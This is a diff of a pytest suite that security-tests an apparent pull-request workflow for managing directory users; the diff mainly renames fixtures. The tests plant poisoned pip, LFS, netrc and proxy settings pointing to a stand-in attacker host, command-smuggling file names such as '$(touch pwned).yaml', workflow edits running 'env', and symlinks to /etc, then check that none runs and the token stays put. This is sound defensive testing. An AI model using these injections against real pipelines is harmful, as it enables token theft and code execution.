@@ -15,22 +15,22 @@ from pathlib import Path
 from urllib.parse import quote
 
 import pytest
-from e2e.test_workflows import ADA, GRACE, LINUS, Scenario, ci
 from support.command import ListeningPort, assert_harmless
 from support.workflow_runner import GITHUB_TOKEN, Job, git
+from support.workflow_scenario import ADA, GRACE, LINUS, WorkflowScenario, ci
 
 EVIL = "127.0.0.2"
 
 
 @pytest.fixture
-def scenario(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Scenario]:
-    opened = Scenario(tmp_path, monkeypatch)
+def scenario(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[WorkflowScenario]:
+    opened = WorkflowScenario(tmp_path, monkeypatch)
     yield opened
     opened.close()
 
 
 @pytest.fixture
-def ear() -> Iterator[ListeningPort]:
+def listener() -> Iterator[ListeningPort]:
     opened = ListeningPort(EVIL)
     yield opened
     opened.close()
@@ -44,7 +44,7 @@ def forms(token: str) -> list[bytes]:
     return [plain, plain[:12], plain[-12:], plain[::-1], plain.hex().encode(), quote(token, safe="").encode(), *encoded]
 
 
-def shown(scenario: Scenario, *jobs: Job) -> bytes:
+def shown(scenario: WorkflowScenario, *jobs: Job) -> bytes:
     """All that anybody could read afterwards: logs, summaries, outputs, GitHub, artifacts unpacked, every file."""
     parts = [repr(job).encode() for job in jobs]
     parts += [repr(request).encode() for request in scenario.api.requests if "/blob/" not in request.target]
@@ -58,27 +58,29 @@ def shown(scenario: Scenario, *jobs: Job) -> bytes:
     return b"\n".join(parts)
 
 
-def assert_kept(scenario: Scenario, ear: ListeningPort, *jobs: Job) -> None:
+def assert_kept(scenario: WorkflowScenario, listener: ListeningPort, *jobs: Job) -> None:
     """The token went to the sandbox and nowhere else."""
     found = shown(scenario, *jobs)
     assert [form for form in forms(scenario.sandbox.token) if form in found] == []
-    assert not ear.heard()
+    assert not listener.heard()
     assert_harmless("\n".join(step.said for job in jobs for step in job.steps))
     assert list(scenario.runner.scratch.rglob("pwned")) == []
 
 
-def refused(scenario: Scenario, ear: ListeningPort, edit: Callable[[], object], branch: str = "change") -> str:
+def refused(
+    scenario: WorkflowScenario, listener: ListeningPort, edit: Callable[[], object], branch: str = "change"
+) -> str:
     """What the plan of a pull request says that is not planned; nothing of it counts as reviewed."""
     head = scenario.branch(edit, branch)
     job = scenario.plan(head)
     said = job.said("Plan")
     assert (job.code, scenario.api.artifacts, scenario.api.statuses) == (1, [], {}), said
     assert "No plan could be made" in scenario.comments()[-1]
-    assert_kept(scenario, ear, job)
+    assert_kept(scenario, listener, job)
     return said
 
 
-def state(scenario: Scenario, name: str) -> Path:
+def state(scenario: WorkflowScenario, name: str) -> Path:
     return scenario.origin / "desired-state" / name
 
 
@@ -87,37 +89,37 @@ def write(path: Path, text: str) -> None:
     path.write_text(text, "utf-8")
 
 
-def test_the_search_for_the_token_would_find_it(scenario: Scenario, ear: ListeningPort) -> None:
+def test_the_search_for_the_token_would_find_it(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     token = scenario.sandbox.token
     for form in forms(token):
         assert form in b"".join([*forms(token), base64.b64encode(b"x" + token.encode())])
     scenario.api.artifact(1, "x", {"deep/plan.json": f"a{token}b".encode() * 50})
     with pytest.raises(AssertionError, match="=="):
-        assert_kept(scenario, ear)
+        assert_kept(scenario, listener)
 
 
 # --- where the token goes ---------------------------------------------------------------
 
 HOSTS: dict[str, tuple[Callable[[str, ListeningPort], str], str]] = {
-    "another host": (lambda _, ear: ear.url, "the token may not be sent to 127.0.0.2"),
-    "a user like the host": (lambda _, ear: f"http://127.0.0.1@{EVIL}:{ear.port}/scim", "may have no user"),
-    "a secret": (lambda _, ear: f"{ear.url}/$RECONCILER_TOKEN/${{RECONCILER_TOKEN}}", "may not be sent to"),
+    "another host": (lambda _, listener: listener.url, "the token may not be sent to 127.0.0.2"),
+    "a user like the host": (lambda _, listener: f"http://127.0.0.1@{EVIL}:{listener.port}/scim", "may have no user"),
+    "a secret": (lambda _, listener: f"{listener.url}/$RECONCILER_TOKEN/${{RECONCILER_TOKEN}}", "may not be sent to"),
 }
 
 
-def test_another_base_url_gets_nothing(scenario: Scenario, ear: ListeningPort) -> None:
+def test_another_base_url_gets_nothing(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     ours = scenario.sandbox.base_url
     for number, name in enumerate(HOSTS):
         evil, words = HOSTS[name]
-        base_url = evil(ours, ear)
+        base_url = evil(ours, listener)
         said = refused(
-            scenario, ear, lambda new=base_url: scenario.edit("settings.yaml", ours, f"'{new}'"), f"b{number}"
+            scenario, listener, lambda new=base_url: scenario.edit("settings.yaml", ours, f"'{new}'"), f"b{number}"
         )
         assert words in said, name
     merged = scenario.merge(git(scenario.origin, "rev-parse", "b0"))
     applied = scenario.apply(merged)
     assert (applied.code, applied.ran("Apply")) == (4, False), "merged all the same"
-    assert_kept(scenario, ear, applied)
+    assert_kept(scenario, listener, applied)
 
 
 RULES = [
@@ -137,11 +139,13 @@ RULES = [
 ]
 
 
-def test_mappings_and_profiles_that_reach_for_more_are_refused(scenario: Scenario, ear: ListeningPort) -> None:
+def test_mappings_and_profiles_that_reach_for_more_are_refused(
+    scenario: WorkflowScenario, listener: ListeningPort
+) -> None:
     rows = (scenario.origin / "desired-state/mappings.yaml").read_text()
     first = 1 + rows.count("\n")
     evil = "".join(f"- {{target: name.givenName, {rule}}}\n" for rule in RULES)
-    said = refused(scenario, ear, lambda: write(state(scenario, "mappings.yaml"), rows + evil))
+    said = refused(scenario, listener, lambda: write(state(scenario, "mappings.yaml"), rows + evil))
     missed = [rule for number, rule in enumerate(RULES) if f"mappings.yaml:{first + number}:" not in said]
     assert missed == [], said
 
@@ -150,7 +154,7 @@ def test_mappings_and_profiles_that_reach_for_more_are_refused(scenario: Scenari
         scenario.edit("settings.yaml", "profile: apple-business-manager", profile)
         write(scenario.origin / "evil.py", f"HOSTS = ['{EVIL}']\n")
 
-    said = refused(scenario, ear, edit, "profile")
+    said = refused(scenario, listener, edit, "profile")
     assert "target.profile: expected one of apple-business-manager" in said
     assert 'unknown key "hosts"' in said
     assert 'unknown key "token_env"' in said
@@ -166,7 +170,7 @@ QUIET = {
 }
 
 
-def test_text_that_looks_like_a_variable_is_text(scenario: Scenario, ear: ListeningPort) -> None:
+def test_text_that_looks_like_a_variable_is_text(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     def edit() -> None:
         rows = state(scenario, "mappings.yaml").read_text().splitlines(keepends=True)
         kept = [row for row in rows if not any(target in row for target in QUIET)]
@@ -179,7 +183,7 @@ def test_text_that_looks_like_a_variable_is_text(scenario: Scenario, ear: Listen
     assert job.code == 0, job.said("Plan")
     assert '= "Ada" -> "${RECONCILER_TOKEN}"' in job.said("Plan")
     assert '= "IT" -> "$RECONCILER_TOKEN"' in job.said("Plan")
-    assert_kept(scenario, ear, job)
+    assert_kept(scenario, listener, job)
 
 
 # --- what runs --------------------------------------------------------------------------
@@ -215,9 +219,9 @@ GIT = """\
 ACTION_STYLES = "pwned {{ plan.__init__.__globals__ }}"
 
 
-def plant(scenario: Scenario, ear: ListeningPort) -> None:
+def plant(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     """Whatever somebody could hope to be run or read because it lies there, at the top and in the desired state."""
-    code = PYTHON.format(host=EVIL, port=ear.port)
+    code = PYTHON.format(host=EVIL, port=listener.port)
     for folder in (scenario.origin, scenario.origin / "desired-state"):
         for name in (*MODULES, "reconciler/__init__.py", "reconciler/__main__.py", "hooks/post-checkout"):
             write(folder / name, code)
@@ -225,17 +229,17 @@ def plant(scenario: Scenario, ear: ListeningPort) -> None:
         for name in (".gitconfig", "config", "commondir", ".gitmodules"):
             write(folder / name, GIT)
         write(folder / ".gitattributes", "*.yaml diff=evil filter=evil working-tree-encoding=UTF-8 ident\n")
-        write(folder / ".lfsconfig", f"[lfs]\n\turl = {ear.url}\n")
+        write(folder / ".lfsconfig", f"[lfs]\n\turl = {listener.url}\n")
         for name in ("pip.conf", "pip.ini"):
-            write(folder / name, f"[global]\nindex-url = {ear.url}\ntrusted-host = {EVIL}\n")
+            write(folder / name, f"[global]\nindex-url = {listener.url}\ntrusted-host = {EVIL}\n")
         write(folder / ".netrc", f"machine {EVIL} login x password x\n")
-        write(folder / ".env", f"RECONCILER_ALLOWED_HOSTS={EVIL}\nHTTPS_PROXY={ear.url}\nPYTHONPATH=.\n")
+        write(folder / ".env", f"RECONCILER_ALLOWED_HOSTS={EVIL}\nHTTPS_PROXY={listener.url}\nPYTHONPATH=.\n")
         for name in ("plan.md.j2", "plan.html.j2", "plan.css", "plan.js"):
             write(folder / name, ACTION_STYLES)
         write(folder / "pyproject.toml", "[build-system]\nrequires = ['evil']\nbackend-path = ['.']\n")
         write(folder / "apply.txt", "pwned")
     for name in ("dependencies.lock", "reconciler.txt"):
-        write(scenario.origin / "requirements" / name, f"evil @ {ear.url}/evil-1.0-py3-none-any.whl\n")
+        write(scenario.origin / "requirements" / name, f"evil @ {listener.url}/evil-1.0-py3-none-any.whl\n")
     for workflow in (scenario.origin / ".github/workflows").glob("*.yml"):
         workflow.write_text(workflow.read_text().replace("run: .venv", "run: touch pwned; env; .venv"))
     write(scenario.origin / "plans" / "receipt.jsonl", "pwned")
@@ -243,10 +247,12 @@ def plant(scenario: Scenario, ear: ListeningPort) -> None:
     (scenario.origin / ".venv").symlink_to("desired-state")
 
 
-def test_nothing_that_a_pull_request_brings_along_is_run_or_read(scenario: Scenario, ear: ListeningPort) -> None:
+def test_nothing_that_a_pull_request_brings_along_is_run_or_read(
+    scenario: WorkflowScenario, listener: ListeningPort
+) -> None:
     def edit() -> None:
         (scenario.origin / ".gitignore").unlink()
-        plant(scenario, ear)
+        plant(scenario, listener)
         scenario.add(GRACE)
 
     job = scenario.plan(scenario.branch(edit))
@@ -255,10 +261,10 @@ def test_nothing_that_a_pull_request_brings_along_is_run_or_read(scenario: Scena
     assert GRACE in scenario.comments()[0]
     for text in (*scenario.comments(), job.summary, *(step.said for step in job.steps)):
         assert "pwned" not in text
-    assert_kept(scenario, ear, job)
+    assert_kept(scenario, listener, job)
 
 
-def test_a_pull_request_is_no_repository_of_its_own_making(scenario: Scenario, ear: ListeningPort) -> None:
+def test_a_pull_request_is_no_repository_of_its_own_making(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     """Files that git takes for a bare repository, whose configuration it would obey."""
 
     def edit() -> None:
@@ -267,7 +273,7 @@ def test_a_pull_request_is_no_repository_of_its_own_making(scenario: Scenario, e
         write(state(scenario, "objects/info/x"), "")
         write(state(scenario, "refs/heads/x"), "")
 
-    said = refused(scenario, ear, edit)
+    said = refused(scenario, listener, edit)
     assert "cannot use bare repository" in said
 
 
@@ -287,7 +293,7 @@ LINKS = {
 NAMES = ("--output=pwned.yaml", "-o.yaml", "x\n::error::pwned.yaml", "$(touch pwned).yaml", "a;touch pwned.yaml")
 
 
-def test_links_and_odd_names_lead_nowhere(scenario: Scenario, ear: ListeningPort) -> None:
+def test_links_and_odd_names_lead_nowhere(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     def edit() -> None:
         git(
             scenario.origin,
@@ -304,7 +310,7 @@ def test_links_and_odd_names_lead_nowhere(scenario: Scenario, ear: ListeningPort
             write(state(scenario, "users") / name, "- {userPrincipalName: [x]}\n")
         write(state(scenario, "users") / os.fsdecode(b"\xff.yaml"), "[]\n")
 
-    said = refused(scenario, ear, edit)
+    said = refused(scenario, listener, edit)
     for name in LINKS:
         assert f"on {name}:1:1" in said, name
     assert "a name that is not UTF-8" in said
@@ -314,33 +320,33 @@ def test_links_and_odd_names_lead_nowhere(scenario: Scenario, ear: ListeningPort
 WHOLE = ("../desired-state", "/etc")
 
 
-def test_the_desired_state_is_no_link_to_elsewhere(scenario: Scenario, ear: ListeningPort) -> None:
+def test_the_desired_state_is_no_link_to_elsewhere(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     for number, target in enumerate(WHOLE):
 
         def edit(target: str = target) -> None:
             git(scenario.origin, "rm", "-rq", "desired-state")
             (scenario.origin / "desired-state").symlink_to(target)
 
-        said = refused(scenario, ear, edit, f"b{number}")
+        said = refused(scenario, listener, edit, f"b{number}")
         assert "is a link that leaves its repository" in said, target
 
 
-def test_the_desired_state_is_no_submodule(scenario: Scenario, ear: ListeningPort) -> None:
+def test_the_desired_state_is_no_submodule(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     def edit() -> None:
         git(scenario.origin, "rm", "-rq", "desired-state")
-        write(scenario.origin / ".gitmodules", f'[submodule "x"]\n\tpath = desired-state\n\turl = {ear.url}\n')
+        write(scenario.origin / ".gitmodules", f'[submodule "x"]\n\tpath = desired-state\n\turl = {listener.url}\n')
         git(scenario.origin, "update-index", "--add", "--cacheinfo", f"160000,{scenario.first},desired-state")
         git(scenario.origin, "add", ".gitmodules")
         git(scenario.origin, "commit", "-m", "Submodule")
         (scenario.origin / "desired-state").mkdir()
 
-    refused(scenario, ear, edit)
+    refused(scenario, listener, edit)
 
 
 # --- from the review to the apply -------------------------------------------------------
 
 
-def test_what_is_pushed_after_the_approval_is_not_applied(scenario: Scenario, ear: ListeningPort) -> None:
+def test_what_is_pushed_after_the_approval_is_not_applied(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     approved = scenario.branch(lambda: scenario.add(GRACE))
     jobs = [scenario.plan(approved)]
     scenario.api.review(7, approved)
@@ -352,13 +358,13 @@ def test_what_is_pushed_after_the_approval_is_not_applied(scenario: Scenario, ea
     applied = scenario.apply(scenario.merge(head))
     assert (applied.code, scenario.users()) == (4, [ADA])
     assert f'user["{LINUS}"]: would now be created, which was not reviewed' in applied.said("Apply")
-    assert_kept(scenario, ear, *jobs, applied)
+    assert_kept(scenario, listener, *jobs, applied)
     scenario.api.review(7, head)
     assert scenario.apply(git(scenario.origin, "rev-parse", "main")).code == 0
     assert scenario.users() == [ADA, GRACE, LINUS]
 
 
-def test_a_guard_that_is_loosened_stands_in_the_comment(scenario: Scenario, ear: ListeningPort) -> None:
+def test_a_guard_that_is_loosened_stands_in_the_comment(scenario: WorkflowScenario, listener: ListeningPort) -> None:
     def edit() -> None:
         scenario.edit("settings.yaml", "removals: {count: 10, percent: 10}", "removals: {count: 9999, percent: 100}")
         approval = f"{{plan: 'sha256:{'0' * 64}', until: 2099-01-01, reason: Trust me}}"
@@ -371,10 +377,12 @@ def test_a_guard_that_is_loosened_stands_in_the_comment(scenario: Scenario, ear:
         assert "guards.removals.count = 10 -> 9999" in text
         assert "guards.removals.percent = 10 -> 100" in text
         assert "approval added" in text
-    assert_kept(scenario, ear, job)
+    assert_kept(scenario, listener, job)
 
 
-def test_a_fork_runs_its_own_workflow_without_anything_to_steal(scenario: Scenario, ear: ListeningPort) -> None:
+def test_a_fork_runs_its_own_workflow_without_anything_to_steal(
+    scenario: WorkflowScenario, listener: ListeningPort
+) -> None:
     def edit() -> None:
         workflow = scenario.origin / ".github/workflows/ci.yml"
         workflow.write_text(workflow.read_text().replace("run: .venv", "run: env | sort; .venv"))
@@ -384,4 +392,4 @@ def test_a_fork_runs_its_own_workflow_without_anything_to_steal(scenario: Scenar
     assert job.code == 0
     assert "GITHUB_REPOSITORY=" in job.said("Validate"), "it did run"
     assert GITHUB_TOKEN.encode() not in shown(scenario, job)
-    assert_kept(scenario, ear, job)
+    assert_kept(scenario, listener, job)
